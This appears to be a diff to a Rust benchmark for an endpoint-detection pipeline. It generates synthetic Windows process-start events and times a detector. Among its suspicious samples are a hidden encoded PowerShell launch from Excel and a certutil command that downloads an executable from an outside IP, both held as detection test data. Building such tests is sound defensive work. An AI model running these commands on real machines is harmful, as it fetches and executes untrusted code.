@@ -33,9 +33,9 @@ pub(crate) fn run(ctx: &Context) -> BoxFuture<'_, anyhow::Result<Report>> {
 fn process_events(n: usize) -> Vec<Event> {
     let ty = EventType::new("endpoint.process.created").expect("a valid type literal");
     let tenant = TenantId::new(payload::TENANT).expect("a valid tenant literal");
-    let shapes = [
+    let ordinary = [
         (
-            "C:\\Windows\\explorer.exe",
+            "C:\\Windows\\System32\\services.exe",
             "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
             "C:\\Windows\\System32\\svchost.exe",
         ),
@@ -44,6 +44,18 @@ fn process_events(n: usize) -> Vec<Event> {
             "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
             "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         ),
+        (
+            "C:\\Windows\\explorer.exe",
+            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\"",
+            "C:\\Program Files\\Microsoft VS Code\\Code.exe",
+        ),
+        (
+            "C:\\Windows\\explorer.exe",
+            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
+            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+        ),
+    ];
+    let suspicious = [
         (
             "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
             "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA",
@@ -54,24 +66,14 @@ fn process_events(n: usize) -> Vec<Event> {
             "certutil.exe -urlcache -split -f http://203.0.113.50/a.exe a.exe",
             "C:\\Windows\\System32\\certutil.exe",
         ),
-        (
-            "C:\\Windows\\System32\\cmd.exe",
-            "whoami /all",
-            "C:\\Windows\\System32\\whoami.exe",
-        ),
-        (
-            "C:\\Windows\\explorer.exe",
-            "notepad.exe C:\\Users\\bob\\notes.txt",
-            "C:\\Windows\\System32\\notepad.exe",
-        ),
     ];
     let time = Utc::now();
     (0..n)
         .map(|i| {
             let (parent, command_line, image) = match i % 50 {
-                0 => shapes[2],
-                25 => shapes[3],
-                k => [shapes[0], shapes[1], shapes[4], shapes[5]][k % 4],
+                0 => suspicious[0],
+                25 => suspicious[1],
+                k => ordinary[k % ordinary.len()],
             };
             Event::builder(ty.clone(), tenant.clone())
                 .source("edr/bench")
@@ -123,7 +125,7 @@ async fn measure(ctx: &Context) -> anyhow::Result<Report> {
     drop(raw_detector);
 
     // Ours: the worker on the bus; timed from the first publish to the last
-    // event evaluated.
+    // event evaluated (publisher and worker run at once, as in production).
     let bus = ctx.connect().await?;
     let detector = Detector::new(&rules, Mapping::shipped(), Default::default())
         .map_err(|e| anyhow::anyhow!("{e}"))?;
@@ -163,6 +165,10 @@ async fn measure(ctx: &Context) -> anyhow::Result<Report> {
     .field("rules_loaded", rules.loaded)
     .field("rules_failed", rules.failures.len())
     .field("matches", raw_matches)
+    .field(
+        "event_mix",
+        "Windows process starts, 1 in 25 suspicious (encoded PowerShell, certutil download)",
+    )
     .field("wall_s", round6(ours_wall.as_secs_f64()))
     .field("raw_wall_s", round6(raw_wall.as_secs_f64()))
     .field(
@@ -171,8 +177,8 @@ async fn measure(ctx: &Context) -> anyhow::Result<Report> {
     )
     .field(
         "ours_method",
-        "publish_batch of 1,000 to the memory bus; the detection worker's group delivers, maps, \
-         evaluates, publishes each finding and acks",
+        "publish_batch of 1,000 to the memory bus while the detection worker's group delivers, \
+         maps, evaluates, publishes each finding and acks",
     );
     Ok(report.targets([Target::at_least("ratio", 0.9)]))
 }
